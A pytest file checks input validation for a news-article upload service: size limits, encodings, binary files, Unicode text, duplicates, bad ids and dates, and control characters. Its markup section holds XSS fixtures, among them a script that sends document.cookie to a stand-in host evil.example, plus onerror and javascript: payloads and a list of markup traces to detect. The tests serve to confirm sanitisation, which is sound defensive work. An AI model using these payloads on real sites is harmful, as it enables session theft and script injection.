"""Bad input ends in a clear message and nothing stored; odd but valid input is kept intact.

Each case goes through the JSON API (POST /api/articles) and, where a person
would meet it there, through the upload form (POST /upload, multipart). After
every refused request the row count of every table is unchanged.
"""

from __future__ import annotations

import asyncio
import json
import time
import unicodedata
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import httpx
import pytest
from bs4 import BeautifulSoup
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlmodel import Session, select

from app.core.segment import MAX_STATEMENT_CHARS
from app.models import Outlet
from tests.conftest import csrf_from, nothing_stored, row_counts

HTML = {"accept": "text/html"}

STORY_TEXT = (
    "Flooding closed the main bridge in Dresden on Tuesday, city officials said. "
    "Three people were rescued from cars on the riverbank. "
    "The mayor said the bridge would stay shut until Friday."
)


# --- helpers ------------------------------------------------------------------------


def post_api(client: TestClient, **body: Any) -> httpx.Response:
    return client.post("/api/articles", json=body)


def upload(
    client: TestClient,
    file: tuple[str, bytes, str] | None = None,
    **fields: str,
) -> httpx.Response:
    """Submit the upload form as a browser does: multipart, with the CSRF field."""
    data = {"csrf": csrf_from(client), **fields}
    # A browser sends an empty file part when no file was chosen.
    files = {"file": file or ("", b"", "application/octet-stream")}
    return client.post("/upload", data=data, files=files, headers=HTML, follow_redirects=False)


def form_error(response: httpx.Response, field: str) -> str:
    """The message the form shows next to a field (and the form-level alert is there too)."""
    page = BeautifulSoup(response.text, "html.parser")
    assert page.select_one("#form-errors") is not None, response.text[:500]
    error = page.select_one(f"#{field}-error")
    assert error is not None, f"no error shown for {field}"
    return error.get_text(" ", strip=True)


def uploaded_article_id(response: httpx.Response) -> int:
    assert response.status_code == 303, response.text[:500]
    location = response.headers["location"]
    return int(location.split("new=")[1].split("#")[0].split("&")[0])


def assert_readable(detail: object) -> None:
    """A message for a person: a non-trivial sentence, no traceback, no file path."""
    assert isinstance(detail, str) and len(detail) > 10
    assert "Traceback" not in detail and ".py" not in detail


# --- empty input ----------------------------------------------------------------------


@pytest.mark.parametrize("text", ["", "   ", "\n\n\t  \r\n", "\u00a0\u2003\u3000"])
def test_empty_or_whitespace_text_is_refused(
    client: TestClient, session: Session, text: str
) -> None:
    with nothing_stored(session):
        response = post_api(client, text=text, outlet="Saxony Daily")
    assert response.status_code == 422
    assert_readable(response.json()["detail"])

    with nothing_stored(session):
        page = upload(client, text=text, outlet="Saxony Daily")
    assert page.status_code == 422
    assert form_error(page, "text")


def test_empty_file_is_refused(client: TestClient, session: Session) -> None:
    with nothing_stored(session):
        page = upload(client, file=("empty.txt", b"  \n\n ", "text/plain"), outlet="Saxony Daily")
    assert page.status_code == 422
    assert "empty" in form_error(page, "file").lower()


# --- size ------------------------------------------------------------------------------


def test_oversized_api_body_is_refused(client: TestClient, session: Session, app: FastAPI) -> None:
    limit = app.state.settings.max_upload_bytes
    with nothing_stored(session):
        response = post_api(client, text="word " * (limit // 5 + 10), outlet="Saxony Daily")
    assert response.status_code == 413
    assert_readable(response.json()["detail"])


def test_oversized_body_without_content_length_is_refused(
    client: TestClient, session: Session, app: FastAPI
) -> None:
    limit = app.state.settings.max_upload_bytes
    body = json.dumps({"text": "word " * (limit // 5 + 10), "outlet": "Saxony Daily"}).encode()

    def chunks() -> Iterator[bytes]:  # a streamed body: httpx sends no Content-Length
        for i in range(0, len(body), 65536):
            yield body[i : i + 65536]

    with nothing_stored(session):
        response = client.post(
            "/api/articles", content=chunks(), headers={"content-type": "application/json"}
        )
    assert response.status_code == 413


def test_declared_content_length_over_limit_is_refused_unread(
    app: FastAPI, session: Session
) -> None:
    """The size check trusts a declared Content-Length and never reads the body."""
    limit = app.state.settings.max_upload_bytes
    received: list[dict[str, Any]] = []
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        received.append({})
        return {"type": "http.request", "body": b'{"text": "tiny"}', "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST",
        "scheme": "http", "path": "/api/articles", "raw_path": b"/api/articles",
        "root_path": "", "query_string": b"", "server": ("testserver", 80),
        "client": ("testclient", 50000), "state": {},
        "headers": [
            (b"host", b"testserver"),
            (b"content-type", b"application/json"),
            (b"content-length", str(limit * 10).encode()),
        ],
    }  # fmt: skip
    # Its own loop in a worker thread: Playwright's sync API may hold a running loop
    # in this thread when the browser tests ran earlier in the session.
    with nothing_stored(session), ThreadPoolExecutor(max_workers=1) as pool:
        pool.submit(asyncio.run, app(scope, receive, send)).result()
    start = next(m for m in sent if m["type"] == "http.response.start")
    assert start["status"] == 413
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    assert_readable(json.loads(body)["detail"])
    assert received == [], "the body was read although its declared length is over the limit"


def test_oversized_file_upload_is_refused_with_a_page(
    client: TestClient, session: Session, app: FastAPI
) -> None:
    limit = app.state.settings.max_upload_bytes
    big = b"Officials said the bridge was closed. " * (limit // 38 + 10)
    with nothing_stored(session):
        page = upload(client, file=("big.txt", big, "text/plain"), outlet="Saxony Daily")
    assert page.status_code == 413
    message = BeautifulSoup(page.text, "html.parser").get_text(" ", strip=True)
    assert "too large" in message.lower()


# --- encodings and binary files -------------------------------------------------------------


@pytest.mark.parametrize(
    "name, data",
    [
        (
            "photo.png",
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" + bytes(range(256)) * 8,
        ),
        (
            "report.pdf",
            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nstream\n\x00\x01\x02\x03" * 50,
        ),
        ("nul.txt", b"Officials said the bridge was closed.\x00\x00\x00 More text here."),
    ],
)
def test_binary_file_is_refused(
    client: TestClient, session: Session, name: str, data: bytes
) -> None:
    with nothing_stored(session):
        page = upload(client, file=(name, data, "application/octet-stream"), outlet="Saxony Daily")
    assert page.status_code == 422
    assert "binary" in form_error(page, "file").lower()


def test_nul_bytes_in_api_text_are_never_stored(client: TestClient, session: Session) -> None:
    """NUL and other C0 controls in JSON text: refused, or stored without them."""
    text = STORY_TEXT.replace("bridge", "bri\x00dge", 1).replace("Three", "\x07Three")
    before = row_counts(session)
    response = post_api(client, text=text, outlet="Saxony Daily")
    if response.status_code == 422:
        assert_readable(response.json()["detail"])
        assert row_counts(session) == before
        return
    assert response.status_code == 201, response.text
    article = client.get(f"/api/articles/{response.json()['id']}").json()
    stored = [article["body"], *(st["text"] for st in article["statements"])]
    assert not any(ch in s for s in stored for ch in "\x00\x07")
    assert "bridge" in article["body"]


LATIN = "Zürich officials said the café near the Rhône bridge would reopen on Friday."


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252", "utf-16", "utf-8-sig", "utf-8"])
def test_text_files_in_common_encodings_decode_correctly(
    client: TestClient, session: Session, encoding: str
) -> None:
    data = LATIN.encode(encoding)
    if encoding == "utf-16":
        assert data.startswith((b"\xff\xfe", b"\xfe\xff"))  # Python writes the BOM
    response = upload(client, file=("zurich.txt", data, "text/plain"), outlet="Alpine Wire")
    article = client.get(f"/api/articles/{uploaded_article_id(response)}").json()
    assert article["body"] == LATIN
    assert "\ufffd" not in article["body"]


# --- markup -----------------------------------------------------------------------------------

HOSTILE_HTML = """<!doctype html>
<html><head><title>Bridge closed in Dresden</title>
<script>document.location = "https://evil.example/?c=" + document.cookie</script></head>
<body><article>
<h1>Bridge closed in Dresden</h1>
<p>Flooding closed the main bridge in Dresden on Tuesday, city officials said.
<script>alert('inline')</script></p>
<iframe src="https://evil.example/frame" onload="alert('frame')"></iframe>
<p onclick="alert('click')">Three people were rescued from cars on the riverbank.</p>
<p><img src="x" onerror="alert('img')">The mayor said the bridge would stay shut until Friday.</p>
<p>Engineers will inspect the pillars on Thursday, <a href="javascript:alert('link')" onmouseover="alert('hover')">the city said</a>.</p>
</article></body></html>
"""

HOSTILE_TEXT = (
    "Flooding closed the main bridge <script>alert('x')</script> in Dresden on Tuesday. "
    '<iframe src="https://evil.example/" onload="alert(1)"></iframe> Three people were rescued. '
    "<img src=x onerror=alert(2)> The mayor said the bridge would stay shut until Friday. "
    '<a href="javascript:alert(3)" onmouseover="alert(4)">Engineers</a> will inspect the pillars.'
)
MARKUP_TRACES = ("<script", "</script", "<iframe", "onclick", "onerror", "onload", "onmouseover",
                 "javascript:", "alert(", "document.cookie")  # fmt: skip


def assert_page_is_inert(html: str) -> None:
    """No stored markup became live: nothing under .statements is an element it should not be."""
    page = BeautifulSoup(html, "html.parser")
    statements = page.select_one(".statements")
    assert statements is not None
    assert statements.find_all(["script", "iframe", "img", "object", "embed"]) == []
    for element in statements.find_all(True):
        assert not [a for a in element.attrs if a.lower().startswith("on")], element
        href = str(element.get("href", ""))
        assert not href.lower().startswith("javascript:"), element
    # Anywhere on the page: scripts only from our static files, never inline.
    for script in page.find_all("script"):
        assert str(script.get("src", "")).startswith("/static/") and not script.string
    assert page.find_all("iframe") == []
    for element in page.find_all(True):
        assert not [a for a in element.attrs if a.lower().startswith("on")], element


def test_html_with_scripts_is_stored_as_plain_text(client: TestClient) -> None:
    response = post_api(client, html=HOSTILE_HTML, outlet="Saxony Daily")
    assert response.status_code == 201, response.text
    article = client.get(f"/api/articles/{response.json()['id']}").json()
    stored = " ".join(
        [article["body"], article["title"] or "", article["standfirst"] or ""]
        + [st["text"] for st in article["statements"]]
    )
    assert "<" not in stored and ">" not in stored
    for trace in MARKUP_TRACES:
        assert trace not in stored.lower(), trace
    assert "Three people were rescued" in article["body"]
    page = client.get(f"/articles/{article['id']}", headers=HTML)
    assert page.status_code == 200
    assert_page_is_inert(page.text)


def test_html_page_ending_in_a_link_keeps_its_body(client: TestClient) -> None:
    """trafilatura returns such a page as one line that starts with the headline; the
    headline must be lifted off that line, not the whole article taken as the title."""
    page = (
        "<html><head><title>Bridge closed in Dresden</title></head><body><article>"
        "<h1>Bridge closed in Dresden</h1>"
        "<p>Flooding closed the main bridge in Dresden on Tuesday, city officials said.</p>"
        "<p>Three people were rescued from cars on the riverbank.</p>"
        "<p>The mayor said the bridge would stay shut until Friday.</p>"
        '<p><a href="https://example.com/more">Engineers will inspect the pillars on Thursday.</a></p>'
        "</article></body></html>"
    )
    response = post_api(client, html=page, outlet="Saxony Daily")
    assert response.status_code == 201, response.text
    article = client.get(f"/api/articles/{response.json()['id']}").json()
    assert article["title"] == "Bridge closed in Dresden"
    assert article["body"].startswith("Flooding closed the main bridge")
    assert "Three people were rescued" in article["body"]


def test_html_file_upload_is_stored_as_plain_text(client: TestClient) -> None:
    response = upload(
        client, file=("story.html", HOSTILE_HTML.encode(), "text/html"), outlet="Saxony Daily"
    )
    article = client.get(f"/api/articles/{uploaded_article_id(response)}").json()
    assert "<" not in article["body"]
    for trace in MARKUP_TRACES:
        assert trace not in article["body"].lower(), trace
    assert_page_is_inert(client.get(f"/articles/{article['id']}", headers=HTML).text)


def test_markup_typed_as_text_is_shown_escaped(client: TestClient) -> None:
    """Tags pasted as plain text are the article's words: kept or dropped, never live."""
    response = post_api(client, text=HOSTILE_TEXT, outlet="Saxony Daily")
    assert response.status_code == 201, response.text
    article_id = response.json()["id"]
    article = client.get(f"/api/articles/{article_id}").json()
    page = client.get(f"/articles/{article_id}", headers=HTML)
    assert page.status_code == 200
    assert_page_is_inert(page.text)
    shown = BeautifulSoup(page.text, "html.parser").select_one(".statements")
    assert shown is not None
    # Whatever the statements say is what a reader sees, as text.
    visible = shown.get_text("", strip=False)
    for st in article["statements"]:
        assert st["text"] in visible
    story = client.get(f"/stories/{article['story_id']}", headers=HTML)
    assert story.status_code == 200
    page_all = BeautifulSoup(story.text, "html.parser")
    assert page_all.find_all("iframe") == [] and page_all.find_all("img", onerror=True) == []
    for script in page_all.find_all("script"):
        assert str(script.get("src", "")).startswith("/static/") and not script.string


# --- scripts and symbols ---------------------------------------------------------------------

RTL_AND_EMOJI = [
    pytest.param(
        "قال مسؤولون في المدينة إن الجسر الرئيسي أغلق يوم الثلاثاء بسبب الفيضانات. "
        "وتم إنقاذ ثلاثة أشخاص من سياراتهم على ضفة النهر. "
        "وقال رئيس البلدية إن الجسر سيبقى مغلقا حتى يوم الجمعة.",
        id="arabic",
    ),
    pytest.param(
        "גשר העיר הראשי נסגר ביום שלישי בגלל השיטפונות, כך אמרו פקידי העירייה. "
        "שלושה אנשים חולצו ממכוניות על גדת הנהר. "
        "ראש העיר אמר כי הגשר יישאר סגור עד יום שישי.",
        id="hebrew",
    ),
    pytest.param(
        "Flooding 🌊 closed the main bridge 🌉 in Dresden on Tuesday, officials said. "
        "Three people 👨‍👩‍👧 were rescued from cars on the riverbank 🚗🚙. "
        "The mayor 🇩🇪 said the bridge would stay shut until Friday 🙏🏽.",
        id="emoji",
    ),
    pytest.param(
        "The minister \u202bوزير الخارجية\u202c said talks with \u05d9\u05e9\u05e8\u05d0\u05dc would resume. "
        "A spokesman for the ministry 🕊️ confirmed the date of the meeting. "
        "Officials in Cairo said the talks would last three days.",
        id="mixed-bidi",
    ),
]


@pytest.mark.parametrize("text", RTL_AND_EMOJI)
def test_right_to_left_text_and_emoji_are_kept_exactly(client: TestClient, text: str) -> None:
    assert unicodedata.is_normalized("NFC", text)
    response = post_api(client, text=text, outlet="Levant Wire")
    assert response.status_code == 201, response.text
    article = client.get(f"/api/articles/{response.json()['id']}").json()
    body = article["body"]
    assert body == text
    assert article["statements"], "no statements"
    for st in article["statements"]:
        assert st["text"].encode("utf-8") == body[st["start"] : st["end"]].encode("utf-8")
    # The statements together hold every letter and emoji of the text, in order.
    joined = "".join(st["text"] for st in article["statements"])
    assert joined.replace(" ", "") == text.replace(" ", "")
    page = client.get(f"/articles/{article['id']}", headers=HTML)
    shown = BeautifulSoup(page.text, "html.parser").select(".statements .statement")
    assert [p.get_text() for p in shown] == [st["text"] for st in article["statements"]]


def test_one_huge_sentence_without_punctuation(client: TestClient) -> None:
    vocabulary = ["militia", "officials", "bridge", "river", "council", "report", "city",
                  "minister", "talks", "region", "forces", "week", "statement", "border"]  # fmt: skip
    words = [vocabulary[(i * 7 + i // 3) % len(vocabulary)] for i in range(15_000)]
    text = " ".join(words)[:100_000]
    text = text[:-1] + "s" if text.endswith(" ") else text
    assert len(text) == 100_000 and not any(ch in text for ch in ".!?,;:")

    started = time.monotonic()
    response = post_api(client, text=text, outlet="Run-on Daily")
    elapsed = time.monotonic() - started
    assert response.status_code == 201, response.text[:300]
    assert elapsed < 20, f"took {elapsed:.1f} s"
    article = client.get(f"/api/articles/{response.json()['id']}").json()
    statements = article["statements"]
    assert len(statements) == response.json()["statements"] > 1
    assert all(0 < len(st["text"]) <= MAX_STATEMENT_CHARS for st in statements)
    assert sum(len(st["text"]) for st in statements) >= len(text) - len(statements)


# --- duplicates, unknown ids, dates, stories -----------------------------------------------


def test_exact_duplicate_is_refused(client: TestClient, session: Session) -> None:
    first = post_api(client, text=STORY_TEXT, outlet="Saxony Daily")
    assert first.status_code == 201
    first_id = first.json()["id"]

    for again in (STORY_TEXT, "  " + STORY_TEXT.upper().replace(" ", "  ") + "\n"):
        with nothing_stored(session):
            response = post_api(client, text=again, outlet="Saxony Daily")
        assert response.status_code == 409
        assert response.json()["article_id"] == first_id
        assert_readable(response.json()["detail"])

    with nothing_stored(session):
        page = upload(client, text=STORY_TEXT, outlet="saxony daily")
    assert page.status_code == 409
    link = BeautifulSoup(page.text, "html.parser").select_one("#form-errors a")
    assert link is not None and link["href"] == f"/articles/{first_id}"


@pytest.mark.parametrize(
    "method, path",
    [
        ("GET", "/api/stories/987654"),
        ("GET", "/api/stories/987654/comparison"),
        ("GET", "/api/articles/987654"),
        ("DELETE", "/api/articles/987654"),
        ("GET", "/api/outlets/987654"),
        ("GET", "/stories/987654"),
        ("GET", "/articles/987654"),
        ("GET", "/outlets/987654"),
        ("GET", "/stories/987654/export.json"),
    ],
)
def test_unknown_ids_are_404(
    client: TestClient, session: Session, demo_story: int, method: str, path: str
) -> None:
    with nothing_stored(session):
        response = client.request(method, path)
    assert response.status_code == 404
    if path.startswith("/api"):
        detail = response.json()["detail"]
        assert_readable(detail)
        assert "987654" in detail


def test_unknown_ids_are_404_pages_for_a_browser(client: TestClient, demo_story: int) -> None:
    for path in ("/stories/987654", "/articles/987654", "/outlets/987654"):
        page = client.get(path, headers=HTML)
        assert page.status_code == 404
        assert BeautifulSoup(page.text, "html.parser").find("h1") is not None


@pytest.mark.parametrize(
    "method, path, allowed",
    [
        ("PUT", "/api/stories", {"GET", "POST"}),
        ("OPTIONS", "/api/stories", {"GET", "POST"}),
        ("PATCH", "/api/articles/1", {"GET", "DELETE"}),
        ("GET", "/api/articles/from-url", {"POST"}),
        ("DELETE", "/api/stories/1", {"GET", "PATCH"}),
    ],
)
def test_wrong_method_is_405_naming_the_allowed_ones(
    client: TestClient, session: Session, demo_story: int, method: str, path: str, allowed: set[str]
) -> None:
    with nothing_stored(session):
        response = client.request(method, path)
    assert response.status_code == 405
    named = {m.strip() for m in response.headers.get("allow", "").split(",") if m.strip()}
    assert named - {"HEAD"} == allowed
    assert_readable(response.json()["detail"])


TOO_BIG = 2**63  # one past SQLite's largest INTEGER


@pytest.mark.parametrize(
    "method, path",
    [
        ("GET", f"/api/stories/{TOO_BIG}"),
        ("GET", f"/api/stories/{TOO_BIG}/comparison"),
        ("GET", f"/api/articles/{TOO_BIG}"),
        ("DELETE", f"/api/articles/{TOO_BIG}"),
        ("GET", f"/api/outlets/{TOO_BIG}"),
        ("GET", f"/articles/{TOO_BIG}"),
        ("GET", f"/outlets/{TOO_BIG}"),
        ("GET", f"/stories/{TOO_BIG}"),
    ],
)
def test_ids_beyond_the_database_range_are_refused_not_500(
    client: TestClient, session: Session, method: str, path: str
) -> None:
    with nothing_stored(session):
        response = client.request(method, path)
    assert response.status_code in (404, 422), response.text


def test_story_id_beyond_the_database_range_is_refused(
    client: TestClient, session: Session
) -> None:
    with nothing_stored(session):
        response = post_api(client, text=STORY_TEXT, outlet="Saxony Daily", story_id=TOO_BIG)
    assert response.status_code == 422, response.text
    assert_readable(response.json()["detail"])
    with nothing_stored(session):
        page = upload(client, text=STORY_TEXT, outlet="Saxony Daily", story_id=str(TOO_BIG))
    assert page.status_code == 422
    assert form_error(page, "story_id")


@pytest.mark.parametrize(
    "value", ["2024-13-45", "2024-02-30", "yesterday", "23/12/2024", "2024-12-23T25:61:00", ""]
)
def test_invalid_dates_are_refused(client: TestClient, session: Session, value: str) -> None:
    with nothing_stored(session):
        response = post_api(client, text=STORY_TEXT, outlet="Saxony Daily", published_at=value)
    assert response.status_code == 422
    detail = response.json()["detail"]
    assert_readable(detail)
    assert "published_at" in detail or "date" in detail.lower()

    if value:  # an empty form field means "not given"
        with nothing_stored(session):
            page = upload(client, text=STORY_TEXT, outlet="Saxony Daily", published_at=value)
        assert page.status_code == 422
        assert form_error(page, "published_at")


def test_story_id_that_names_nothing_is_refused(client: TestClient, session: Session) -> None:
    with nothing_stored(session):
        response = post_api(client, text=STORY_TEXT, outlet="Saxony Daily", story_id=424242)
    assert response.status_code == 422
    assert "424242" in response.json()["detail"]
    assert response.json().get("field") == "story_id"

    with nothing_stored(session):
        page = upload(client, text=STORY_TEXT, outlet="Saxony Daily", story_id="424242")
    assert page.status_code == 422
    assert form_error(page, "story_id")


@pytest.mark.parametrize("story_id", ["abc", "-1", "1.5"])
def test_story_id_that_is_not_a_number_is_refused(
    client: TestClient, session: Session, story_id: str
) -> None:
    with nothing_stored(session):
        page = upload(client, text=STORY_TEXT, outlet="Saxony Daily", story_id=story_id)
    assert page.status_code == 422
    assert form_error(page, "story_id")


# --- control characters in names ----------------------------------------------------------


def _no_control(value: str | None) -> bool:
    return value is None or not any(unicodedata.category(ch) == "Cc" for ch in value)


@pytest.mark.parametrize(
    "name",
    ["Saxony\x00 Daily", "Saxony\x1b[31m Daily\x07", "\tSaxony\r\nDaily\x7f", "Saxony\x85Daily"],
)
def test_control_characters_never_reach_an_outlet_name(
    client: TestClient, session: Session, name: str
) -> None:
    before = row_counts(session)
    response = post_api(client, text=STORY_TEXT, outlet=name)
    if response.status_code == 422:
        assert_readable(response.json()["detail"])
        assert row_counts(session) == before
    else:
        assert response.status_code == 201, response.text
        assert _no_control(response.json()["outlet"])
        assert "Saxony" in response.json()["outlet"]
    session.expire_all()
    for outlet in session.exec(select(Outlet)):
        assert _no_control(outlet.name) and _no_control(outlet.short_name)
        assert _no_control(outlet.name_key)


def test_outlet_name_of_only_control_characters_is_refused(
    client: TestClient, session: Session
) -> None:
    with nothing_stored(session):
        response = post_api(client, text=STORY_TEXT, outlet="\x00\x01\x1b\x7f")
    assert response.status_code == 422
    assert_readable(response.json()["detail"])


def test_control_characters_in_the_form_never_reach_storage(
    client: TestClient, session: Session
) -> None:
    before = row_counts(session)
    page = upload(client, text=STORY_TEXT, outlet="Elbe\x00 Post\x1b", title="Bridge\x07 shut\x00")
    if page.status_code == 422:
        assert row_counts(session) == before
    else:
        article = client.get(f"/api/articles/{uploaded_article_id(page)}").json()
        assert _no_control(article["outlet"]) and _no_control(article["title"])
        assert article["outlet"] == "Elbe Post"
